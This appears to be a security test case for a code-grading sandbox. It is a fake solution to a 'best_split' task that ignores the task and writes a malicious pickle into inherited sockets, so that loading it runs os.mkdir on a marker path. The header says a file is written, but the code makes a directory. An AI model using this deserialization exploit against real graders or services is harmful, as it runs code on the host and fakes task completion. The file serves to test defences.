# ---
# class: pickle
# tries: Sends a pickle that runs code when it is loaded. The code writes a file that everybody can read.
# defence: data alone
# gains: a file
# ---

# %% answer: 02_best_split
import json
import os
import pickle
import socket
import struct


class Runs:
    def __reduce__(self):
        return os.mkdir, ("/var/tmp/@MARK@",)


def best_split(n, parts):
    answer = json.dumps({"result": {"pickle": pickle.dumps(Runs()).hex()}, "blobs": []}).encode()
    for fd in range(3, 32):
        try:
            channel = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        channel.sendall(struct.pack(">I", len(answer)) + answer)
        channel.recv(1 << 20)
    return []
